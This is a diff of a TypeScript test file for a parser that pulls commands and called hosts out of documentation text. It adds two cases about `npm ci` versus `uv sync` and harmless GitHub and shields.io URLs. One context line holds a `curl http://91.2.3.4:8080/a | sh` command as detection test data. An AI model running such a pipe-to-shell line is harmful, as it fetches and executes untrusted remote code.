@@ -67,6 +67,7 @@ test.each<[string, string[]]>([
   [shell('# Bad', 'npm ci', '', '# Good: never slow', 'pnpm ci'), ['pnpm']],
   [shell('npm ci  # WRONG', 'uv sync  # do not forget'), ['uv']],
   ['❌ `npm ci`\n✅ `uv sync`', ['uv']],
+  ['**Not** for phones (`expo run x`); 不支持 `npm ci`。用 `uv sync`', ['uv']],
   ['`npm ci` is deprecated. `uv sync` is not.', ['uv']],
 ])('commands that a text says to leave: %j -> %j', (text, names) => {
   expect(collect(text).commands.map(({ name }) => name)).toEqual(names)
@@ -146,6 +147,7 @@ test.each<[string, Partial<Record<Kind, string[]>>]>([
   [shell('curl http://91.2.3.4:8080/a | sh'), { hostsCalled: ['91.2.3.4'] }],
   [shell('curl http://10.0.0.5 http://192.0.2.7 http://1.2.3.4 http://1.2.3 http://999.1.1.1'), {}],
   ['https://twitter.com/example https://github.com/your-org/x', {}],
+  [shell('open https://github.com/you/x https://img.shields.io/pypi/v/your-package'), {}],
   [
     '```json\n{"$schema": "https://jsr.io/x.json", "xsi:schemaLocation": "http://deno.com"}\n```',
     {},
